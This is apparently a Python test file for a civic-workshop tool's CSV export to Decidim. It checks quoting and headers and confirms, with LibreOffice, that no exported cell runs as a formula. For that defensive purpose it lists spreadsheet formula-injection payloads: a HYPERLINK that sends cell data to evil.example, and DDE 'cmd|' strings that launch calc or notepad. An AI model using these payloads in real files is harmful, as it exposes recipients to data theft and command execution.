"""The pipeline CSV as Decidim's importer reads it (`;`, UTF-8, exact header, every field intact), and as a
spreadsheet opens it: LibreOffice Calc finds no formula in it, whatever the room wrote."""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from workshop.domain.language import Language
from workshop.domain.snapshot import WorkshopSnapshot
from workshop.domain.text import clean_text
from workshop.export.pipeline_csv import (
    FORMULA_STARTS,
    PipelineOptions,
    RowPer,
    Selection,
    spreadsheet_safe,
    to_bytes,
)


def parse(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8")
    assert not text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";", quotechar='"', strict=True))
    header = rows[0]
    assert len(set(header)) == len(header), header  # Decidim rejects duplicate header names
    assert all(header), header  # … and empty ones
    assert all(len(row) == len(header) for row in rows), "a blank or broken line rejects the whole file"
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def formula_like(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula (OWASP's list: = + - @ tab CR, after spaces)?"""
    return cell[:1] in FORMULA_STARTS or cell.lstrip()[:1] in FORMULA_STARTS


def as_typed(cell: str) -> str:
    """The text as it was typed: without the quote that keeps a formula-like cell text."""
    return cell[1:] if cell.startswith("'") and formula_like(cell[1:].lstrip("'")) else cell


def test_one_row_per_idea_with_decidim_header_and_traceability(rich: WorkshopSnapshot) -> None:
    data = to_bytes(rich)
    assert data.decode().splitlines()[0] == (
        "title/sv;body/sv;workshop_id;workshop_title;idea_id;cluster_id;cluster;votes"
    )
    rows = parse(data)
    assert len(rows) == len(rich.visible_ideas)  # the merged duplicate is part of its idea's row
    first = rows[0]
    assert first["title/sv"] == rich.ideas[0].text
    assert first["workshop_id"] == rich.workshop.id
    assert first["cluster"] == "Trygga gångvägar"
    assert "Fråga: Hur skulle vi kunna" in first["body/sv"]
    assert all(row["title/sv"].strip() and row["body/sv"].strip() for row in rows)


def test_english_header_when_asked(rich: WorkshopSnapshot) -> None:
    rows = parse(to_bytes(rich, PipelineOptions(language=Language.EN)))
    assert "title/en" in rows[0]
    assert "Question:" in rows[0]["body/en"]


def test_only_ideas_with_votes(rich: WorkshopSnapshot) -> None:
    rows = parse(to_bytes(rich, PipelineOptions(selection=Selection.WITH_VOTES)))
    assert rows
    assert all(int(row["votes"]) > 0 for row in rows)
    assert {row["idea_id"] for row in rows} == {i for i, n in rich.idea_dots.items() if n > 0}
    merged_into = next(row for row in rows if row["idea_id"] == rich.ideas[1].id)
    assert "Liknande idéer: " + rich.ideas[5].text in merged_into["body/sv"]


def test_top_n_of_a_round_in_rank_order(rich: WorkshopSnapshot) -> None:
    dots_round = rich.voting_rounds[0]
    rows = parse(to_bytes(rich, PipelineOptions(selection=Selection.TOP, round_id=dots_round.id, top=1)))
    assert [row["idea_id"] for row in rows] == [rich.ideas[1].id]
    tally = rich.voting_rounds[1]  # votes on clusters: rows are clusters
    rows = parse(to_bytes(rich, PipelineOptions(selection=Selection.TOP, round_id=tally.id, top=2)))
    assert [row["cluster"] for row in rows] == ["Trygga gångvägar", "Cykla till skolan"]


def test_one_row_per_cluster_plus_the_ideas_outside_clusters(rich: WorkshopSnapshot) -> None:
    rows = parse(to_bytes(rich, PipelineOptions(row_per=RowPer.CLUSTER)))
    outside = [i for i in rich.visible_ideas if i.cluster_id is None]
    assert len(rows) == len(rich.clusters) + len(outside)
    cluster_row = rows[0]
    assert cluster_row["title/sv"] == "Trygga gångvägar"
    assert len(cluster_row["idea_id"].split()) == len(rich.ideas_in(rich.clusters[0].id))
    assert rich.ideas[0].text in cluster_row["body/sv"]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    text=st.text(min_size=1, max_size=400).filter(lambda t: clean_text(t)),
    extra=st.sampled_from(
        ["a;b", 'say "hi"', "two\nlines", '"', ";;", "\r\n", "=cmd()", "<b>x</b>", "مرحبا", "😀"]
    ),
)
def test_any_text_survives_quoting(rich: WorkshopSnapshot, text: str, extra: str) -> None:
    idea_text = clean_text(text + extra)[:1000] or "x"
    description = clean_text(extra + "\n" + text, multiline=True)
    idea = dataclasses.replace(rich.ideas[0], text=idea_text, description=description)
    snapshot = dataclasses.replace(rich, ideas=(idea, *rich.ideas[1:]))
    rows = parse(to_bytes(snapshot))
    assert rows[0]["idea_id"] == idea.id
    if len(idea_text) <= 150:
        assert as_typed(rows[0]["title/sv"]) == idea_text
    assert as_typed(rows[0]["body/sv"]).startswith(idea_text + ("\n\n" + description if description else ""))
    for row in rows:
        assert not any(formula_like(cell) for cell in row.values()), row


def test_long_idea_gets_a_short_title_and_keeps_the_whole_text_in_the_body(rich: WorkshopSnapshot) -> None:
    long_text = " ".join(["cykelbana"] * 100)
    idea = dataclasses.replace(rich.ideas[0], text=long_text)
    rows = parse(to_bytes(dataclasses.replace(rich, ideas=(idea, *rich.ideas[1:]))))
    assert len(rows[0]["title/sv"]) <= 150
    assert rows[0]["title/sv"].endswith("…")
    assert rows[0]["body/sv"].startswith(long_text)


HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1;"Klicka här")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\uff1d1+1",
    "=cmd|' /C notepad'!'A1'",
]


def hostile_snapshot(rich: WorkshopSnapshot) -> WorkshopSnapshot:
    """Formula-like text in every free field the CSV carries: ideas, cluster titles, the workshop title."""
    ideas = tuple(
        dataclasses.replace(idea, text=HOSTILE[n % len(HOSTILE)], description=HOSTILE[-1 - n % len(HOSTILE)])
        for n, idea in enumerate(rich.ideas)
    )
    clusters = tuple(dataclasses.replace(c, title="=1+1") for c in rich.clusters)
    workshop = dataclasses.replace(rich.workshop, title="@workshop")
    return dataclasses.replace(rich, ideas=ideas, clusters=clusters, workshop=workshop)


@pytest.mark.parametrize("row_per", list(RowPer))
def test_no_cell_of_the_csv_can_run_as_a_formula(rich: WorkshopSnapshot, row_per: RowPer) -> None:
    snapshot = hostile_snapshot(rich)
    rows = parse(to_bytes(snapshot, PipelineOptions(row_per=row_per)))
    assert rows
    for row in rows:
        assert row["title/sv"].strip()  # Decidim still takes every row
        assert row["body/sv"].strip()
        for cell in row.values():
            assert not formula_like(cell), cell
    texts = {as_typed(row["title/sv"]) for row in rows}
    if row_per == RowPer.IDEA:
        assert texts <= set(HOSTILE)  # what was typed is all there, behind the quote
    assert {row["workshop_title"] for row in rows} == {"'@workshop"}


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=30))
def test_spreadsheet_safe_keeps_the_text_and_never_starts_like_a_formula(cell: str) -> None:
    safe = spreadsheet_safe(cell)
    assert not formula_like(safe)
    assert safe in (cell, "'" + cell)
    assert as_typed(safe) == cell or cell.startswith("'")


# ----- in a real spreadsheet -------------------------------------------------------------------------------
# The officer who receives the file may well double-click it. LibreOffice (headless, Debian's
# libreoffice-calc-nogui; .ci/run installs it) imports the CSV the way Decidim reads it (';', '"', UTF-8,
# first line the header) and saves it as .ods and .xlsx; a formula cell shows in their XML as a
# table:formula attribute or an <f> element. Skipped, with the reason, where soffice is missing outside CI.

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
CSV_FILTER = "CSV:59,34,76,1"  # separator ';', text delimiter '"', UTF-8, start at line 1

needs_calc = pytest.mark.skipif(
    SOFFICE is None and not os.environ.get("CI"),
    reason="LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui",
)


def convert(csv_paths: list[Path], target: str, profile: Path) -> list[Path]:
    """Each CSV opened by Calc and saved as *target* (``ods`` or ``xlsx``) beside it, in one soffice run."""
    assert SOFFICE is not None, "CI must have LibreOffice (see .ci/run)"
    subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation={profile.as_uri()}",  # a profile of its own: tests may run side by side
            "--headless",
            f"--infilter={CSV_FILTER}",
            "--convert-to",
            target,
            "--outdir",
            str(csv_paths[0].parent),
            *map(str, csv_paths),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    out = [path.with_suffix(f".{target}") for path in csv_paths]
    assert all(path.is_file() for path in out), f"LibreOffice wrote no {target}"
    return out


def sheet_xml(path: Path) -> str:
    """The cells' XML: content.xml of an .ods, the first sheet and its shared strings of an .xlsx."""
    with zipfile.ZipFile(path) as archive:
        if path.suffix == ".ods":
            return archive.read("content.xml").decode("utf-8")
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
        return sheet + archive.read("xl/sharedStrings.xml").decode("utf-8")


UNGUARDED = b'title/sv;body/sv\r\n=HYPERLINK("https://evil.example");=1+1\r\n'
_SHEETS: dict[str, str] = {}  # converted once for the module: each soffice run takes a few seconds


@pytest.fixture
def converted(rich: WorkshopSnapshot, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """The XML of the hostile CSV (rows per idea, per cluster) and of an unguarded one, as .ods and .xlsx."""
    if _SHEETS:
        return _SHEETS
    folder = tmp_path_factory.mktemp("spreadsheet")
    snapshot = hostile_snapshot(rich)
    paths = []
    for row_per in RowPer:
        paths.append(folder / f"{row_per.value}.csv")
        paths[-1].write_bytes(to_bytes(snapshot, PipelineOptions(row_per=row_per)))
    paths.append(folder / "unguarded.csv")
    paths[-1].write_bytes(UNGUARDED)
    for target in ("ods", "xlsx"):
        for out in convert(paths, target, folder / "profile"):
            _SHEETS[out.name] = sheet_xml(out)
    return _SHEETS


@needs_calc
def test_calc_finds_no_formula_cell(converted: dict[str, str]) -> None:
    for row_per in RowPer:
        assert "table:formula" not in converted[f"{row_per.value}.ods"], row_per
        xlsx = converted[f"{row_per.value}.xlsx"]
        assert "<f>" not in xlsx, row_per
        assert "<f " not in xlsx, row_per


@needs_calc
def test_calc_shows_the_typed_text(converted: dict[str, str]) -> None:
    """The texts are there (behind their quote), so the officer reads what the room wrote."""
    strings = converted["idea.xlsx"]
    for typed in ("SUM(1,2)", "HYPERLINK(", "cmd|"):
        assert typed in strings


@needs_calc
def test_an_unguarded_file_would_have_run_formulas(converted: dict[str, str]) -> None:
    """The check above can see a formula: an unguarded cell becomes one in Calc."""
    assert "table:formula" in converted["unguarded.ods"]
    assert "<f>" in converted["unguarded.xlsx"] or "<f " in converted["unguarded.xlsx"]


def test_a_text_typed_with_a_quote_before_a_formula_reads_back_as_typed(rich: WorkshopSnapshot) -> None:
    """Found by hypothesis: "'@a;b" was written as it was, so a reader took away the typed quote."""
    for typed in ("'@a;b", "''=1+1", "'hello", " '=x"):
        idea = dataclasses.replace(rich.ideas[0], text=typed, description="")
        rows = parse(to_bytes(dataclasses.replace(rich, ideas=(idea, *rich.ideas[1:]))))
        assert as_typed(rows[0]["title/sv"]) == typed
        assert not formula_like(rows[0]["title/sv"])
